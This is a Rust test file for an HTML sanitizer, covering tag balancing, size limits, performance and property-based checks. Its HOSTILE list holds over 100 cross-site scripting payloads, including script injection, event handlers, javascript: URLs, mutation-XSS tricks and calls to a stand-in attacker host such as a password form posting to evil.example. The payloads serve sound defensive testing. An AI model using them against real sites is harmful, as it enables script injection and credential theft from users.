#![allow(clippy::unwrap_used)]
use std::time::Duration;

use proptest::prelude::*;

use super::*;
use crate::stopwatch::Stopwatch;

fn clean(html: &str) -> String {
    markup(html, &MarkupLimits::default()).unwrap().html
}

fn refusal(html: &str) -> String {
    markup(html, &MarkupLimits::default()).unwrap_err().to_string()
}

#[test]
fn structure_text_and_classes_are_kept() {
    for html in [
        "<h1 class=\"text-lg\">a</h1><p>b <strong>c</strong><br>d</p>",
        "<ul><li>a</li><li>b<ol start=\"3\"><li>c</li></ol></li></ul>",
        "<table><caption>t</caption><thead><tr><th scope=\"col\">a</th></tr></thead><tbody><tr><td colspan=\"2\">b</td></tr></tbody></table>",
        "<div role=\"img\" aria-label=\"up\" title=\"a &amp; b\" lang=\"de\" dir=\"ltr\">x &lt; y &amp; z</div>",
        "<details open=\"\"><summary>a</summary>b</details><dl><dt>a</dt><dd>b</dd></dl>",
        "<p class=\"grid-cols-[auto_1fr] w-1/2\">ä 🦀</p><pre>a\n  b</pre><time datetime=\"2026-01-01\">x</time>",
    ] {
        assert_eq!(clean(html), html);
    }
}

#[test]
fn elements_that_are_left_open_are_closed_as_browsers_do() {
    assert_eq!(clean("<ul><li>a<li>b</ul>c"), "<ul><li>a</li><li>b</li></ul>c");
    assert_eq!(clean("<p>a<p>b<div>c"), "<p>a</p><p>b</p><div>c</div>");
    assert_eq!(
        clean("<table><tr><td>a<td>b<tr><td>c</table>d"),
        "<table><tbody><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></tbody></table>d"
    );
    assert_eq!(
        clean("<dl><dt>a<dd>b<dt>c</dl>"),
        "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>"
    );
    assert_eq!(clean("<b>a</i>b</b></p>c"), "<b>ab</b>c");
    assert_eq!(clean("1 < 2 <3 a<b"), "1 &lt; 2 &lt;3 a");
    // A list in a list, and a table in a table, close nothing around them.
    assert_eq!(
        clean("<ul><li>a<ul><li>b</ul><li>c</ul>"),
        "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"
    );
    let nested = "<table><tbody><tr><td><table><tbody><tr><td>a</td></tr></tbody></table></td><td>b</td></tr></tbody></table>";
    assert_eq!(clean(nested), nested);
    assert_eq!(clean(&"<li>a".repeat(5000)).matches("</li>").count(), 5000);
    assert_eq!(clean("<td colspan=99999999>a"), "a");
    assert_eq!(
        clean("<table><tr><td colspan=99999999 rowspan=-1>a"),
        "<table><tbody><tr><td colspan=\"1000\">a</td></tr></tbody></table>"
    );
}

/// What must not be in any answer, whatever goes in: read as a browser would, outside of text.
fn is_harmless(html: &str) -> Result<(), String> {
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        let Some((tag, behind)) = tag::read(&rest[at..]) else {
            return Err(format!("a `<` that is no tag in {html}"));
        };
        rest = behind;
        if !elements::is_kept(&tag.name) {
            return Err(format!("the element {} in {html}", tag.name));
        }
        for (name, value) in &tag.attributes {
            let known = elements::is_kept_on(&tag.name, name) || (tag.name == "a" && name == "rel");
            let leads_in = name != "href"
                || (value.starts_with('/') && !value.starts_with("//") && !value.starts_with("/api"));
            if !known || !leads_in || name.starts_with("on") || value.contains(['<', '>', '"']) {
                return Err(format!("the attribute {name}={value} in {html}"));
            }
        }
    }
    Ok(())
}

/// Forms of scripts, of styles, of addresses, and of texts that turn into them when they are parsed twice.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=//evil.example></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script\n>alert(1)</script\t>",
    "<<script>alert(1);//<</script>",
    "<script\0>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<p onclick=alert(1)>a</p>",
    "<p/onmouseover=alert(1)>a",
    "<p ONCLICK='alert(1)'>a",
    "<p \nonclick\n=\nalert(1)>a",
    "<p title=\"a\"onclick=alert(1)>a",
    "<p title='\"><script>alert(1)</script>'>a",
    "<p title=\"`onclick=alert(1)\">a",
    "<p on\0click=alert(1)>a",
    "<details open ontoggle=alert(1)>a",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>a</text></a></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><p onclick=alert(1)>a</p></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">a</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "<textarea><script>alert(1)</script></textarea>",
    "<textarea></textarea><p title=\"</textarea><img src onerror=alert(1)>\">",
    "<title><a title=\"</title><img src onerror=alert(1)>\"></title>",
    "<xmp><p title=\"</xmp><img src onerror=alert(1)>\"></xmp>",
    "<noembed><p title=\"</noembed><script>alert(1)</script>\">",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img onerror=alert(1) src&gt;</listing>",
    "<select><option><style></select><img src onerror=alert(1)></style>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=\"background:url(//evil.example)\">a</p>",
    "<p style=width:expression(alert(1))>a",
    "<style>@import '//evil.example';</style>",
    "<form action=//evil.example><input name=password><button>a</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>a</button>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onerror=alert(1)>",
    "<a href=javascript:alert(1)>a</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">a</a>",
    "<a href=\"java\nscript:alert(1)\">a</a>",
    "<a href=\"java&#x09;script:alert(1)\">a</a>",
    "<a href=\"&#106;avascript:alert(1)\">a</a>",
    "<a href=\"&#0000106&#0000097vascript:alert(1)\">a</a>",
    "<a href=\"javascript&colon;alert(1)\">a</a>",
    "<a href=\" &#14; javascript:alert(1)\">a</a>",
    "<a href=\"\u{1}javascript:alert(1)\">a</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>a</a>",
    "<a href=vbscript:msgbox(1)>a</a>",
    "<a href=//evil.example>a</a>",
    "<a href=/\\evil.example>a</a>",
    "<a href=\"/&#9;/evil.example\">a</a>",
    "<a href=https://evil.example>a</a>",
    "<a href=/api/v1/panels>a</a>",
    "<a href=/%61pi/v1>a</a>",
    "<a target=_top href=/x>a</a>",
    "<a ping=//evil.example href=/x>a</a>",
    "<p id=login name=token>a</p>",
    "<p is=x-login slot=x part=y>a</p>",
    "<x-login>a</x-login>",
    "<!--<script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>-->",
    "<!--->a<script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1.0?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>'>]>&x;",
    "</script><script>alert(1)</script>",
    "<p>a</p\u{b}onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "<p title=\"&lt;script&gt;\">a",
    "<p class=\"x\" class=\"y\" title='a' title=b onclick=c>a",
    "<table><script>alert(1)</script><tr><img src onerror=alert(1)><td>a",
    "<b><i><table><b>x</table></i><p>y",
    "<a href=/x><a href=javascript:alert(1)>b</a>",
    "\u{feff}<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<%<!--'%><script>alert(1);</script -->",
    "<p title=\"\u{2028}\" aria-onclick=x aria-=y aria-a.b=z>a",
    "<div role=\"x\" aria-label='\"><img src onerror=alert(1)>'>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<a href=\"#\" onclick=alert(1)>a</a>",
    "<a href=blob:https://evil.example/x>a</a>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "<font color=red face='x' onclick=y>a</font>",
    "<a",
    "<a href=",
    "<a href='",
    "</",
    "<!",
    "<!--",
    "<",
    "&",
    "&#",
    "&#x",
    "\0",
    "<p title=",
    "<p title=\"",
];

#[test]
fn nothing_hostile_survives_in_any_form() {
    assert!(HOSTILE.len() > 100);
    for html in HOSTILE {
        let once = clean(html);
        is_harmless(&once).unwrap_or_else(|what| panic!("{html}: {what}"));
        assert_eq!(clean(&once), once, "{html}");
    }
    assert_eq!(clean("<script>alert(1)</script>"), "");
    assert!(!clean("<scr<script>ipt>alert(1)</script>.").contains("<script"));
    assert_eq!(clean("<img src=x onerror=alert(1)>a"), "a");
    assert_eq!(clean("&lt;script&gt;"), "&lt;script&gt;");
}

#[test]
fn links_lead_where_they_may_and_say_nothing_on_the_way() {
    let rel = "rel=\"noopener noreferrer nofollow\"";
    assert_eq!(
        clean("<a href=/dashboards/b?from=1>a</a>"),
        format!("<a href=\"/dashboards/b?from=1\" {rel}>a</a>")
    );
    let limits = MarkupLimits {
        link_hosts: vec!["wiki.example.com".to_owned()],
        ..MarkupLimits::default()
    };
    let html = "<a href=\"https://wiki.example.com/x\" target=_blank>a</a><a href=https://evil.example target=x>b</a>";
    assert_eq!(
        markup(html, &limits).unwrap().html,
        format!("<a href=\"https://wiki.example.com/x\" target=\"_blank\" {rel}>a</a><a {rel}>b</a>")
    );
}

#[test]
fn too_much_is_refused_at_once() {
    for (html, says) in [
        ("<div>".repeat(100_000), "100 elements in each other"),
        ("<b>".repeat(100_000), "100 elements in each other"),
        ("<b><i>".repeat(50_000), "100 elements in each other"),
        ("<table><tr><td>".repeat(60_000), "100 elements in each other"),
        ("<br>".repeat(200_000), "20000 elements"),
        ("<p></p>".repeat(100_000), "20000 elements"),
        ("x".repeat((1 << 20) + 1), "1048577 bytes"),
        ("<".repeat(1 << 20), "20000 characters"),
        ("&".repeat(1 << 20), "20000 characters"),
        ("&zz;".repeat(1 << 18), "20000 characters"),
    ] {
        let started = Stopwatch::start();
        let refused = refusal(&html);
        assert!(refused.contains(says), "{refused}");
        assert!(
            started.elapsed() < Duration::from_secs(2),
            "{}: {:?}",
            &html[..6],
            started.elapsed()
        );
    }
}

/// Texts for which parsers are known to need time that grows with the square of their length.
#[test]
fn no_text_of_the_largest_size_takes_long() {
    let fill = |before: &str, step: &str, after: &str| {
        let room = (1 << 20) - before.len() - after.len();
        format!("{before}{}{after}", step.repeat(room / step.len()))
    };
    let attributes: String = (0..120_000).map(|i| format!(" a{i}")).collect();
    let formats: String = (0..99).map(|i| format!("<b title={i}>")).collect();
    for html in [
        format!("<p{attributes}>x"),
        fill("<p title=\"", "&amp;", "\">x"),
        fill("<p class=\"", "a ", "\">x"),
        fill("", "<script>", ""),
        fill("", "<!--", ""),
        fill("", "<!--a--!>", ""),
        fill("<!--", "--", ""),
        fill("", "</a x='>", ""),
        fill("", "<a x='>", ""),
        fill("", "<p title=\">", ""),
        fill("", "</script", ""),
        fill("<script>", "</scrip", ""),
        fill("", "</p>", ""),
        fill("", "</x>", ""),
        fill("", "<svg>", ""),
        fill("", "<!", ""),
        fill("", "&#", ""),
        fill("", "&", ""),
        "&zz;".repeat(20_000),
        "&".repeat(20_000),
        "<".repeat(20_000),
        fill("", "\0", ""),
        format!("{formats}{}", "<p>x</p>".repeat(19_000)),
        format!("{formats}{}", "</table><table>x".repeat(19_000)),
        format!("{formats}{}", "<table><p>x</table>".repeat(9000)),
        format!("<table>{}", "<p><b>x</p>".repeat(9000)),
        format!("{}{}", "<p>".repeat(15_000), "</b></i></div>".repeat(50_000)),
        format!("<ul>{}", "<li><a href=/x>".repeat(9900)),
        "<p class=\"p-1 p-2 p-3 p-4 p-5 m-1 m-2 m-3 m-4 md:p-1 dark:p-2\">x</p>".repeat(14_000),
        (0..2000)
            .map(|i| format!("<p class=\"w-[{i}px]\">x</p>"))
            .collect(),
    ] {
        let started = Stopwatch::start();
        let made = markup(&html, &MarkupLimits::default());
        let took = started.elapsed();
        assert!(
            took < Duration::from_secs(3),
            "{} … took {took:?}",
            html.chars().take(40).collect::<String>()
        );
        if let Ok(made) = made {
            is_harmless(&made.html).unwrap();
        }
    }
}

/// Tags and texts, with attributes in order of their names: their order has no meaning.
fn in_order(html: &str) -> String {
    let mut out = String::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        let (mut tag, behind) = tag::read(&rest[at..]).unwrap();
        tag.attributes.sort();
        out.push_str(&format!("{}{tag:?}", &rest[..at]));
        rest = behind;
    }
    out + rest
}

fn fragments() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        3 => prop::sample::select(HOSTILE).prop_map(str::to_owned),
        3 => prop::sample::select(elements::KEPT).prop_map(|name| format!("<{name}>")),
        2 => prop::sample::select(elements::KEPT).prop_map(|name| format!("</{name}>")),
        1 => prop::sample::select(elements::EMPTIED).prop_map(|name| format!("<{name}>")),
        1 => prop::sample::select(elements::EMPTIED).prop_map(|name| format!("</{name}>")),
        1 => prop::sample::select(vec!["<", ">", "\"", "'", "=", "/", " ", "<!--", "-->", "onclick=x", "href=", "javascript:",
            "class=p-4 ", "title=\"", "&lt;", "&#60;", "&quot;", "\0", "\r", "\u{c}", "a", "&#13;", "&#0;", "&nbsp;", "\u{a0}"])
            .prop_map(str::to_owned),
        1 => "\\PC{0,8}",
    ];
    prop::collection::vec(piece, 0..14).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn whatever_goes_in_what_comes_out_is_harmless_and_stays_as_it_is(html in fragments()) {
        let limits = MarkupLimits::default();
        let once = markup(&html, &limits).unwrap();
        if let Err(what) = is_harmless(&once.html) {
            prop_assert!(false, "{}", what);
        }
        prop_assert!(!once.html.to_ascii_lowercase().contains("<script"));
        prop_assert!(!once.css.contains("url("));
        let twice = markup(&once.html, &limits).unwrap();
        prop_assert_eq!(in_order(&twice.html), in_order(&once.html));
    }
}
